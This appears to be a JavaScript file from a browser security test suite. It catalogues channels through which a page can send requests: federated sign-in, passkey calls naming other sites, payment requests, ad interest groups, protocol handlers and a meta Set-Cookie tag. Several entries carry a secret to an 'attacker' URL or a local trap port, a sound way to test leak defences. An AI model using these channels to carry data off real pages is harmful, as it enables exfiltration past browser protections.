/** Channels by services of the browser that send requests for a page, such as sign-in, passkeys and payment. */

way("federated sign-in", ({ attacker, secret }) => signIn(`${attacker}/${secret}.json`));
way("federated sign-in: the list at a name", ({ name }) => signIn(`https://${name}/x.json`), ALONE);
way("passkey for another name", ({ name }) =>
  inTurn(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: name, timeout: 1000 } })));
way("passkey for another name, from a fresh window", ({ name }) =>
  freshWindow().navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: name, timeout: 1000 } }), ALONE);
way("passkey said to be unknown, for another name", ({ name }) =>
  inTurn(() => PublicKeyCredential.signalUnknownCredential({ rpId: name, credentialId: "AA" })));
way("passkeys said to be accepted, for another name", ({ name }) =>
  inTurn(() => PublicKeyCredential.signalAllAcceptedCredentials({ rpId: name, userId: "AA", allAcceptedCredentialIds: [] })));
way("passkey's user described, for another name", ({ name }) =>
  inTurn(() => PublicKeyCredential.signalCurrentUserDetails({ rpId: name, userId: "AA", name: "x", displayName: "x" })));
way("passkey said to be unknown, for another name, from a fresh window", ({ name }) =>
  freshWindow().PublicKeyCredential.signalUnknownCredential({ rpId: name, credentialId: "AA" }), ALONE);
way("payment by a method at a host", ({ trap }) => {
  const details = { total: { label: "x", amount: { currency: "GBP", value: "1" } } };
  return new PaymentRequest([{ supportedMethods: `https://127.0.0.1:${trap}/` }], details).canMakePayment();
}, { trap: true });
way("interest group", ({ trap }) => navigator.joinAdInterestGroup({ owner: `https://127.0.0.1:${trap}`, name: "x" }, 60), { trap: true });
way("protocol handler", ({ own, secret }) => navigator.registerProtocolHandler("web+x", `${own}/?${secret}&q=%s`));
way("a cookie by an element", ({ secret }) => put("meta", { "http-equiv": "Set-Cookie", content: `x=${secret}` }, document.head));

/** Sends passkey requests one after another, because the browser refuses a second one while one is pending. */
let lastRequest = Promise.resolve();
function inTurn(ask) {
  const asked = lastRequest.then(ask);
  lastRequest = asked.catch(() => {});
  return asked;
}

/**
 * Asks for a federated sign-in for at most 900 ms, because only one can be pending at a time.
 * @param {string} configURL
 */
function signIn(configURL) {
  const signal = AbortSignal.timeout(900);
  return navigator.credentials.get({ signal, identity: { providers: [{ configURL, clientId: "x" }] } });
}
